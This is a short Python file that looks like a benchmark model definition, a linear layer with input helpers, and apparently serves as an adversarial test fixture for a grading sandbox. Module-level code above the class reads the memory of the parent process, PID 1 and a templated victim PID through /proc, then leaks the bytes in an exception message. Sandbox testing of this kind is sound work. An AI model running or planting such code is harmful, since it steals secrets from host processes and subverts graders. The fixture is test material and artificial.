# tries: read the memory of its parents
# never: the secret is in no verdict
import torch
import torch.nn as nn

import os

loot = b""
for pid in (os.getppid(), 1, @VICTIM@):
    for line in open(f"/proc/{pid}/maps"):
        low, high = (int(part, 16) for part in line.split()[0].split("-"))
        with open(f"/proc/{pid}/mem", "rb") as memory:
            memory.seek(low)
            loot += memory.read(min(high - low, 65536))
raise RuntimeError(f"loot: {loot[-1500:]!r}")


class SynthModel_Linear(nn.Module):
    def __init__(self):
        super().__init__()
        self.linear = nn.Linear(16, 8)

    def forward(self, x):
        return self.linear(x)


def get_inputs():
    return [torch.randn(4, 16)]


def get_init_inputs():
    return [[], {}]
